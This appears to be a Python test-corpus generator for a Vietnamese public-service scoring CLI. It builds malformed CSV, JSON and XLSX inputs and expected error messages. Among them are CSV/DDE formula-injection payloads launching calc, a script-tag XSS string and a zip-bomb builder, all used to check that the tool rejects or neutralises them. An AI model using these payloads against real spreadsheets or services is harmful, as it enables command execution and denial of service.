"""Bad and hostile inputs for ``mkbidx``, generated from the embedded sample (issue 12).

Each case is a command line over files this script writes (from ``data/sample``: one month of
scope 083, mutated) and what the command must do: its exit code, words its stderr must hold
(the file, the row or unit, the column, what was expected) and whether it may write. The
corpus is ``tests/integration/test_robustness.py``; run this script to see the files::

    .venv/bin/python tests/tools/make_robustness_cases.py /tmp/corpus
"""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_COUNTS = ROOT / "data" / "sample" / "mkbidx-sample-counts.csv"
SAMPLE_JSON = ROOT / "data" / "sample" / "phu-tho-2026-08" / "transparency.json"
SAMPLE_PUBLISHED = ROOT / "data" / "sample" / "mkbidx-sample-published-2024-08.xlsx"
PERIOD, SCOPE = "2024-08", "083"

HOSTILE_NAMES = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab đầu",
    "\rCR đầu",
    "<script>alert('x')</script>",
)


@dataclass
class Case:
    """One command over generated files: ``args(folder)`` gives the arguments."""

    id: str
    args: Callable[[Path], list[str]]
    exit: int = 2
    stderr: tuple[str, ...] = ()
    writes: bool = False
    setup: Callable[[Path], None] | None = None
    monkeypatch: dict[str, object] = field(default_factory=dict)


# ----------------------------------------------------------------------------- source rows
def sample_rows() -> tuple[list[str], list[list[str]]]:
    """Header and the rows of one month of scope 083 from the sample counts."""
    with SAMPLE_COUNTS.open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        rows = [r for r in reader if r[0] == PERIOD and r[4] == SCOPE]
    return header, rows


def write_csv(
    path: Path, header: list[str], rows: list[list[str]], *, quoting: int = csv.QUOTE_MINIMAL
) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n", quoting=quoting).writerows([header, *rows])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _set(rows: list[list[str]], index: int, column: int, value: str) -> list[list[str]]:
    rows = [list(r) for r in rows]
    rows[index][column] = value
    return rows


# ----------------------------------------------------------------------------- CSV mutations
def csv_mutations() -> dict[str, tuple[Callable[[list[str], list[list[str]]], tuple], tuple]]:
    """name → (mutate(header, rows) -> (header, rows), words stderr must hold)."""
    col = {name: i for i, name in enumerate(sample_rows()[0])}
    num, den, per, code, met = (
        col["numerator"],
        col["denominator"],
        col["period"],
        col["unit_code"],
        col["metric"],
    )
    m: dict[str, tuple] = {}

    def cell(column: int, value: str, *words: str, row: int = 3):
        return (lambda h, r: (h, _set(r, row, column, value)), ("dòng 5", *words))

    m["nonnumeric-numerator"] = cell(num, "mười", "numerator", "non-numeric")
    m["nonnumeric-denominator"] = cell(den, "abc", "denominator", "non-numeric")
    m["negative-numerator"] = cell(num, "-5", "numerator", "negative")
    m["negative-denominator"] = cell(den, "-1", "denominator")
    m["fractional-numerator"] = cell(num, "2.5", "numerator", "non-integer")
    m["numerator-above-denominator"] = cell(num, "999999", "numerator", "denominator")
    m["nan-numerator"] = cell(num, "NaN", "numerator")
    m["inf-denominator"] = cell(den, "inf", "denominator")
    m["huge-number"] = cell(num, "9" * 400, "numerator")
    m["thousands-separator"] = cell(num, "1.234.567", "numerator")
    m["half-counts"] = cell(den, "", "thiếu tử số hoặc mẫu số")
    m["empty-period"] = cell(per, "", "period", "empty period")
    m["period-13"] = cell(per, "2024-13", "period", "unknown period")
    m["period-words"] = cell(per, "tháng tám", "period")
    m["period-year-0"] = cell(per, "0000-08", "period")
    m["empty-unit-code"] = cell(code, "", "unit_code", "empty")
    m["unknown-metric"] = cell(met, "NOT_A_METRIC", "metric", "unknown metric")
    m["empty-metric"] = cell(met, "", "metric", "empty")
    m["group-mismatch"] = cell(col["group"], "so_hoa", "group", "group mismatch")
    m["unknown-level"] = cell(col["level"], "thôn", "level", "unknown level")
    m["duplicate-row"] = (
        lambda h, r: (h, [*r, r[0]]),
        (f"dòng {len(sample_rows()[1]) + 2}", "duplicate row"),
    )
    m["ragged-row"] = (lambda h, r: (h, _set(r, 2, num, "1,2,3")), ("dòng",))

    def drop(name: str):
        i = col[name]
        return (
            lambda h, r: (
                [c for j, c in enumerate(h) if j != i],
                [[c for j, c in enumerate(x) if j != i] for x in r],
            ),
            ("missing column",),
        )

    for name in ("numerator", "denominator", "metric", "period"):
        m[f"missing-{name}"] = drop(name)
    m["missing-period"] = (m["missing-period"][0], ("period",))
    m["unknown-column"] = (
        lambda h, r: ([*h, "Ghi chú lạ"], [[*x, "x"] for x in r]),
        ("unknown column", "Ghi chú lạ"),
    )
    m["duplicate-column"] = (
        lambda h, r: ([*h, "numerator"], [[*x, "1"] for x in r]),
        ("duplicate column",),
    )
    m["header-only"] = (lambda h, r: (h, []), ("no data rows",))
    m["blank-header"] = (lambda h, r: ([""] * len(h), r), ("dòng 1",))
    return m


def csv_cases() -> list[Case]:
    cases = []
    for name, (mutate, words) in csv_mutations().items():
        for command in ("rank", "gap"):
            path_name = f"{name}.csv"

            def setup(folder: Path, mutate=mutate, path_name=path_name) -> None:
                header, rows = mutate(*sample_rows())
                write_csv(folder / path_name, header, rows)

            def args(folder: Path, command=command, path_name=path_name) -> list[str]:
                return _command(command, folder / path_name)

            cases.append(Case(f"csv-{name}-{command}", args, 2, (path_name, *words), setup=setup))
    return cases


def _command(command: str, path: Path, *extra: str) -> list[str]:
    return [command, "--period", PERIOD, "--scope", SCOPE, "--input", str(path), *extra]


# ----------------------------------------------------------------------------- raw bytes
def _bytes_case(name: str, data: bytes | Callable[[], bytes], suffix: str, *words: str) -> Case:
    file_name = f"{name}{suffix}"

    def setup(folder: Path) -> None:
        (folder / file_name).write_bytes(data() if callable(data) else data)

    return Case(
        f"file-{name}",
        lambda folder: _command("rank", folder / file_name),
        2,
        (file_name, *words),
        setup=setup,
    )


def _portal(data: object) -> bytes:
    return json.dumps({"code": "OK", "data": data, "message": "OK"}).encode()


def _overview(**metric: object) -> bytes:
    base = {"code": "ON_TIME", "numerator": 9, "denominator": 10}
    return _portal({"overview": {"departmentCode": "H44", "metrics": [{**base, **metric}]}})


def _csv_text(encoding: str) -> Callable[[], bytes]:
    def make() -> bytes:
        header, rows = sample_rows()
        rows = _set(rows, 0, 2, "Xã Tả Ngải Chồ")
        text = "\n".join(",".join(r) for r in [header, *rows]) + "\n"
        return _cp1258(text) if encoding == "cp1258" else text.encode(encoding)

    return make


def _cp1258(text: str) -> bytes:
    """Vietnamese in Windows-1258 (decomposed: base letters and combining tones)."""
    return unicodedata.normalize("NFD", text).encode("cp1258", errors="replace")


def _xlsx(cells: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in cells:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (101 * 2**20))
    return out.getvalue()


def file_cases() -> list[Case]:
    big = "9" * 400
    return [
        _bytes_case("empty-json", b"", ".json", "empty file"),
        _bytes_case("blank-json", b"  \n", ".json", "empty file"),
        _bytes_case("truncated-json", SAMPLE_JSON.read_bytes()[:500], ".json", "malformed JSON"),
        _bytes_case("not-json", b"<html>502 Bad Gateway</html>", ".json", "malformed JSON"),
        _bytes_case(
            "error-envelope",
            b'{"code":"500","message":"Internal error","data":null}',
            ".json",
            "response code",
        ),
        _bytes_case("top-level-list", b"[1, 2, 3]", ".json", "not a portal response"),
        _bytes_case("top-level-string", b'"OK"', ".json", "not a portal response"),
        _bytes_case("no-data", b'{"code":"OK","message":"OK"}', ".json", "not a portal"),
        _bytes_case("deep-array", b"[" * 100000 + b"]" * 100000, ".json", "nesting too deep"),
        _bytes_case(
            "deep-object", b'{"a":' * 100000 + b"1" + b"}" * 100000, ".json", "nesting too deep"
        ),
        _bytes_case(
            "huge-int",
            b'{"code":"OK","data":{"overview":{"departmentCode":"H44","metrics":[{"code":"ON_TIME",'
            b'"numerator":' + big.encode() + b',"denominator":10}]}}}',
            ".json",
            "number too large",
        ),
        _bytes_case("nan-count", _overview(numerator=float("nan")), ".json", "numerator"),
        _bytes_case("inf-count", _overview(denominator=float("inf")), ".json", "denominator"),
        _bytes_case("string-count", _overview(numerator="chín"), ".json", "numerator"),
        _bytes_case("negative-count", _overview(numerator=-3), ".json", "negative"),
        _bytes_case("list-count", _overview(numerator=[1]), ".json", "numerator"),
        _bytes_case("cp1258-json", _cp1258('{"a": "Xã"}'), ".json", "UTF-8"),
        _bytes_case("utf16-json", _overview().decode().encode("utf-16"), ".json", "UTF-8"),
        _bytes_case("cp1258-csv", _csv_text("cp1258"), ".csv", "UTF-8"),
        _bytes_case("utf16-csv", _csv_text("utf-16"), ".csv", "UTF-8"),
        _bytes_case("binary-csv", bytes(range(256)) * 4, ".csv", "binary-csv.csv"),
        _bytes_case(
            "xls-renamed",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
            ".xlsx",
            ".xls",
            "không mật khẩu",
        ),
        _bytes_case("csv-renamed-xlsx", _csv_text("utf-8"), ".xlsx", "not an xlsx"),
        _bytes_case("html-renamed-xlsx", b"<html><table></table></html>", ".xlsx", "not an xlsx"),
        _bytes_case("broken-zip", b"PK\x03\x04" + b"\0" * 100, ".xlsx", "xlsx"),
        _bytes_case("zip-bomb", _zip_bomb, ".xlsx", "MiB", "zip bomb"),
        _bytes_case("empty-xlsx", lambda: _xlsx([]), ".xlsx", "empty file"),
        _bytes_case(
            "xlsx-no-header", lambda: _xlsx([["a", "b"], [1, 2]]), ".xlsx", "no header row"
        ),
        _bytes_case(
            "xlsx-unknown-name",
            lambda: _xlsx([["Kỳ", "Tên đơn vị", "Công khai"], ["8/2024", "Xã Không Có Thật", 10]]),
            ".xlsx",
            "dòng 2",
            "Tên đơn vị",
            "Không Có Thật",
        ),
        _bytes_case(
            "xlsx-score-out-of-range",
            lambda: _xlsx([["Mã đơn vị", "Kỳ", "cong_khai"], ["02752", "8/2024", -5]]),
            ".xlsx",
            "dòng 2",
            "out of range",
            "-5",
        ),
        _bytes_case("unsupported-suffix", b"x", ".txt", "unsupported file type"),
    ]


# ----------------------------------------------------------------------------- arguments
def argument_cases() -> list[Case]:
    counts = str(SAMPLE_COUNTS)

    def rank(*extra: str, period: str = PERIOD, scope: str = SCOPE):
        return lambda folder: [
            "rank",
            "--period",
            period,
            "--scope",
            scope,
            "--input",
            counts,
            *extra,
        ]

    cases = [
        Case(f"period-{i}", rank(period=p), 2, ("--period", "unknown period"))
        for i, p in enumerate(("2024/13", "13/2024", "abc", "2024-00", "99999", "", "2024-8-32"))
    ]
    cases += [
        Case("period-missing", rank(period="2030-01"), 2, ("missing period", "2023-01")),
        Case("scope-unknown", rank(scope="99999"), 2, ("--scope", "empty scope")),
        Case("band-bad", rank("--band", "Tốt"), 2, ("invalid band",)),
        Case("xlsx-without-output", rank("--format", "xlsx"), 2, ("--output",)),
        Case(
            "input-missing",
            lambda folder: _command("rank", folder / "khong-co.csv"),
            2,
            ("khong-co.csv", "file not found"),
        ),
        Case(
            "input-empty-folder",
            lambda folder: _command("rank", _mkdir(folder / "rong")),
            2,
            ("rong", "no data files"),
        ),
        Case(
            "gap-bad-target",
            lambda folder: _command("gap", SAMPLE_COUNTS, "--target", "tám mươi"),
            2,
            ("--target", "invalid target"),
        ),
    ]
    return cases


def _mkdir(path: Path) -> Path:
    path.mkdir(exist_ok=True)
    return path


# ----------------------------------------------------------------------------- output paths
def output_cases() -> list[Case]:
    counts = SAMPLE_COUNTS
    cases = []
    for command in ("rank", "gap"):
        for fmt in ("csv", "xlsx"):
            out = f"{command}.{fmt}"

            def existing(folder: Path, out=out) -> None:
                (folder / out).write_bytes(b"old bytes")

            cases += [
                Case(
                    f"{command}-{fmt}-exists",
                    lambda f, c=command, o=out, fmt=fmt: _command(
                        c, counts, "--format", fmt, "--output", str(f / o)
                    ),
                    2,
                    (out, "file exists", "--force"),
                    setup=existing,
                ),
                Case(
                    f"{command}-{fmt}-under-file",
                    lambda f, c=command, o=out, fmt=fmt: _command(
                        c, counts, "--format", fmt, "--output", str(f / "tep" / o)
                    ),
                    2,
                    ("tep", "not a directory"),
                    setup=lambda f: (f / "tep").write_text("x"),
                ),
                Case(
                    f"{command}-{fmt}-is-folder",
                    lambda f, c=command, fmt=fmt: _command(
                        c, counts, "--format", fmt, "--output", str(_mkdir(f / "thu-muc"))
                    ),
                    2,
                    ("thu-muc", "is a directory"),
                ),
                Case(
                    f"{command}-{fmt}-read-only",
                    lambda f, c=command, o=out, fmt=fmt: _command(
                        c, counts, "--format", fmt, "--output", str(f / o)
                    ),
                    2,
                    ("permission denied",),
                    monkeypatch={"os.access": lambda *a, **k: False},
                ),
                Case(
                    f"{command}-{fmt}-force",
                    lambda f, c=command, o=out, fmt=fmt: _command(
                        c, counts, "--format", fmt, "--output", str(f / o), "--force"
                    ),
                    0,
                    (),
                    writes=True,
                    setup=existing,
                ),
            ]
    report = ["report", "--period", PERIOD, "--scope", SCOPE, "--input", str(counts)]
    cases += [
        Case(
            "report-output-is-file",
            lambda f: [*report, "--output", str(f / "tep")],
            2,
            ("tep", "not a directory"),
            setup=lambda f: (f / "tep").write_text("x"),
        ),
        Case(
            "report-output-under-file",
            lambda f: [*report, "--output", str(f / "tep" / "out")],
            2,
            ("tep", "not a directory"),
            setup=lambda f: (f / "tep").write_text("x"),
        ),
        Case(
            "report-output-read-only",
            lambda f: [*report, "--output", str(f / "out")],
            2,
            ("permission denied",),
            monkeypatch={"os.access": lambda *a, **k: False},
        ),
    ]
    return cases


# ----------------------------------------------------------------------------- accepted
def accepted_cases() -> list[Case]:
    """Inputs that must work: cleaned, or read in their own period (issue 12, items 3 and 11)."""
    cases = []
    controls = {"nul": "\x00", "backspace": "\b", "vtab": "\v", "esc": "\x1b[31m", "c1": "\x85"}
    for name, char in controls.items():
        file_name = f"control-{name}.csv"

        def setup(folder: Path, char=char, file_name=file_name) -> None:
            header, rows = sample_rows()
            rows = [list(r) for r in rows]
            for r in rows:
                r[2] = f"Xã{char} {r[2][3:]}"
            write_csv(folder / file_name, header, rows)

        cases.append(
            Case(
                f"control-{name}-rank-csv",
                lambda f, file_name=file_name: _command(
                    "rank", f / file_name, "--format", "csv", "--output", str(f / "out.csv")
                ),
                0,
                (file_name, "dòng 2", "unit_name", "control characters"),
                writes=True,
                setup=setup,
            )
        )
    for command in ("rank", "gap", "letter"):
        extra = ["--output", "{folder}"] if command == "letter" else []
        cases.append(
            Case(
                f"other-period-file-{command}",
                lambda f, command=command, extra=extra: [
                    command,
                    "--period",
                    "2026-10",
                    "--scope",
                    "15",  # Lào Cai from 7/2025; data/sample also holds an 8/2024 table by name
                    *[e.replace("{folder}", str(f)) for e in extra],
                ],
                0,
                (),
                writes=command == "letter",
            )
        )
    cases.append(  # the units' published scores only: the district's letter all the same
        Case(
            "published-only-letter",
            lambda f: [*_command("letter", SAMPLE_PUBLISHED), "--output", str(f / "out")],
            0,
            (SAMPLE_PUBLISHED.name, "published group scores", "names resolved"),
            writes=True,
        )
    )
    cases.append(
        Case(
            "relative-output-rank",
            lambda f: _command("rank", SAMPLE_COUNTS, "--format", "csv", "--output", "rel.csv"),
            0,
            (),
            writes=True,
        )
    )
    return cases


def hostile_name_cases() -> list[Case]:
    """Formula-like unit names: every table written neutralises them."""
    cases = []
    for command in ("rank", "gap"):
        for fmt in ("csv", "xlsx"):

            def setup(folder: Path) -> None:
                header, rows = sample_rows()
                rows = [list(r) for r in rows]
                codes = sorted({r[1] for r in rows})
                names = {c: HOSTILE_NAMES[i % len(HOSTILE_NAMES)] for i, c in enumerate(codes)}
                for r in rows:
                    r[2] = names[r[1]]
                write_csv(folder / "hostile.csv", header, rows, quoting=csv.QUOTE_ALL)

            cases.append(
                Case(
                    f"hostile-names-{command}-{fmt}",
                    lambda f, command=command, fmt=fmt: _command(
                        command,
                        f / "hostile.csv",
                        "--format",
                        fmt,
                        "--output",
                        str(f / f"out.{fmt}"),
                        *(["--target", "95"] if command == "gap" else []),
                    ),
                    0,
                    (),
                    writes=True,
                    setup=setup,
                )
            )
    return cases


def hostile_letter_cases() -> list[Case]:
    """Formula-like, HTML and control-character unit names in a letter: escaped in its HTML,
    plain text in its DOCX (the test checks both files)."""
    names = (*HOSTILE_NAMES, "Xã\x00 NUL\x1b[31m ESC\b")

    def setup(folder: Path) -> None:
        header, rows = sample_rows()
        rows = [list(r) for r in rows]
        codes = sorted({r[1] for r in rows})
        by_code = {c: names[i % len(names)] for i, c in enumerate(codes)}
        for r in rows:
            r[2] = by_code[r[1]]
        write_csv(folder / "hostile.csv", header, rows, quoting=csv.QUOTE_ALL)

    return [
        Case(
            "hostile-names-letter",
            lambda f: [*_command("letter", f / "hostile.csv"), "--output", str(f / "out")],
            0,
            (),
            writes=True,
            setup=setup,
        )
    ]


def other_command_cases() -> list[Case]:
    """``reconcile``, ``trends`` and ``units resolve`` refuse bad input in one line too (the
    trend report's own checks of scope and data run in its kernel: not in this fast corpus)."""
    cases = [
        Case(
            f"reconcile-{c.id.removeprefix('file-')}",
            lambda f, c=c: ["reconcile", c.args(f)[-1], "--period", PERIOD],
            2,
            c.stderr,
            setup=c.setup,
        )
        for c in file_cases()
        if c.id.endswith(("json", "envelope", "deep-array", "deep-object", "huge-int", "count"))
    ]
    cases.append(
        Case(
            "reconcile-missing-path",
            lambda f: ["reconcile", str(f / "khong-co.json")],
            2,
            ("khong-co.json", "not found"),
        )
    )

    def trends(*extra: str, start: str = "2024-01", end: str = PERIOD, scope: str = SCOPE):
        return lambda f: [
            "trends", "--scope", scope, "--from", start, "--to", end,
            "--input", str(SAMPLE_COUNTS), "--output", str(f / "out"), *extra,
        ]  # fmt: skip

    cases += [
        Case("trends-bad-from", trends(start="2024-13"), 2, ("--from", "unknown period")),
        Case("trends-bad-to", trends(end="tháng mười ba"), 2, ("--to", "unknown period")),
        Case("trends-reversed", trends(start=PERIOD, end="2024-01"), 2, ("invalid range",)),
        Case("trends-bad-compare", trends("--compare", "2024-Q9", "2024-Q3"), 2, ("--compare",)),
        Case(
            "trends-missing-input",
            lambda f: [
                "trends",
                "--scope",
                SCOPE,
                "--from",
                "2024-01",
                "--to",
                PERIOD,
                "--input",
                str(f / "khong-co.csv"),
                "--output",
                str(f / "out"),
            ],  # fmt: skip
            2,
            ("khong-co.csv", "not found"),
        ),
    ]

    def resolve(*extra: str):
        return lambda f: ["units", "resolve", "Mường Khương", *extra]

    bad_registry = "bad-registry.csv"
    cases += [
        Case("units-bad-period", resolve("--period", "2024-13"), 2, ("2024-13", "invalid period")),
        Case(
            "units-missing-registry",
            lambda f: ["units", "resolve", "Mường Khương", "--registry", str(f / "khong-co.csv")],
            2,
            ("khong-co.csv", "registry"),
        ),
        Case(
            "units-bad-registry",
            lambda f: ["units", "resolve", "Mường Khương", "--registry", str(f / bad_registry)],
            2,
            (bad_registry, "missing column"),
            setup=lambda f: (f / bad_registry).write_text("x,y\n1,2\n", encoding="utf-8"),
        ),
        Case("units-unknown-scope", resolve("--scope", "99999"), 2, ("99999", "unknown unit")),
        Case(
            "units-unknown-name",
            lambda f: ["units", "resolve", "Xã Không Có Thật", "--scope", SCOPE],
            1,
            (),  # the answer, on stdout: "<name>\tlỗi: ... (unknown unit name) ..."
        ),
    ]
    return cases


def silent_drop_cases() -> list[Case]:
    """Units and counts no command may drop or pass without a word (issue 12, item 6)."""
    col = {name: i for i, name in enumerate(sample_rows()[0])}
    bare = [col[c] for c in ("period", "unit_code", "group", "metric", "numerator", "denominator")]

    def unknown_code(folder: Path) -> None:
        header, rows = sample_rows()
        first = sorted({r[1] for r in rows})[0]
        rows = [[("99999" if i == col["unit_code"] and v == first else v) for i, v in enumerate(r)]
                for r in rows]  # fmt: skip
        write_csv(folder / "unknown-code.csv", [header[i] for i in bare],
                  [[r[i] for i in bare] for r in rows])  # fmt: skip

    def portal(folder: Path) -> None:
        target = _mkdir(folder / "phu-tho-2026-08")
        for f in SAMPLE_JSON.parent.glob("*.json"):
            (target / f.name).write_bytes(f.read_bytes())
        doc = json.loads(SAMPLE_JSON.read_text("utf-8"))
        units = doc["data"]["evaluation"]
        scored = [m for m in units[0]["metrics"] if m.get("denominator")]
        scored[0]["numerator"] = scored[0]["denominator"] - 0.5
        scored = [m for m in units[1]["metrics"] if m.get("denominator")]
        scored[0]["numerator"] = scored[0]["denominator"] + 5
        (target / SAMPLE_JSON.name).write_text(json.dumps(doc, ensure_ascii=False), "utf-8")

    cases = []
    for command in ("rank", "gap"):
        cases.append(
            Case(
                f"unknown-unit-code-{command}",
                lambda f, command=command: _command(command, f / "unknown-code.csv"),
                0,
                ("99999", "unknown unit code", "unknown-code.csv", "không có số liệu"),
                setup=unknown_code,
            )
        )
    cases.append(  # the province's code differs before and after the national registry
        Case(
            "portal-odd-counts-rank",
            lambda f: ["rank", "--period", "2026-08", "--input", str(f / "phu-tho-2026-08")],
            0,
            ("non-integer count", "numerator above denominator", "transparency.json"),
            setup=portal,
        )
    )
    cases.append(  # the reader names them: reconcile says so as rank and report do
        Case(
            "portal-odd-counts-reconcile",
            lambda f: ["reconcile", str(f / "phu-tho-2026-08")],
            1,  # recomputed scores differ from the published ones
            ("non-integer count", "transparency.json", "Đơn vị stt 1", "metrics[", "numerator"),
            setup=portal,
        )
    )
    return cases


def cases() -> list[Case]:
    """The whole corpus (in-process cases; the kernel-running ones are in the test module)."""
    return [
        *csv_cases(),
        *file_cases(),
        *argument_cases(),
        *output_cases(),
        *accepted_cases(),
        *hostile_name_cases(),
        *hostile_letter_cases(),
        *other_command_cases(),
        *silent_drop_cases(),
    ]


if __name__ == "__main__":  # pragma: no cover - writes every case's files into a folder
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "robustness-cases")
    target.mkdir(parents=True, exist_ok=True)
    for case in cases():
        folder = _mkdir(target / case.id)
        if case.setup:
            case.setup(folder)
        (folder / "command.txt").write_text("mkbidx " + " ".join(case.args(folder)) + "\n")
    print(f"{len(cases())} cases in {target}")
